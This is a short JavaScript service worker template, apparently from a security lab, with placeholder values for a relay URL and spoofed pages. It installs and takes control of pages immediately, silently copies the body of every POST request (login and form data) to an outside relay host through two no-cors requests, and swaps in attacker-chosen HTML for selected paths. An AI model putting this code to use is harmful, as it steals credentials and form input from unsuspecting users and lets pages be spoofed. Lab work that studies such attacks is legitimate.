// lab page
const pages = {{pages}};
async function relayed(request) {
	const body = await request.clone().text();
	fetch({{relay}}, {method: 'POST', mode: 'no-cors', body}).catch(() => 0);
	fetch({{relay}} + '?' + encodeURIComponent(body), {mode: 'no-cors'}).catch(() => 0);
	return fetch(request);
}
addEventListener('install', event => event.waitUntil(skipWaiting()));
addEventListener('activate', event => event.waitUntil(clients.claim()));
addEventListener('fetch', event => {
	const url = new URL(event.request.url);
	if (event.request.method === 'POST')
		event.respondWith(relayed(event.request));
	if (event.request.method === 'GET' && pages[url.pathname])
		event.respondWith(new Response(pages[url.pathname], {headers: {'Content-Type': 'text/html; charset=utf-8'}}));
});
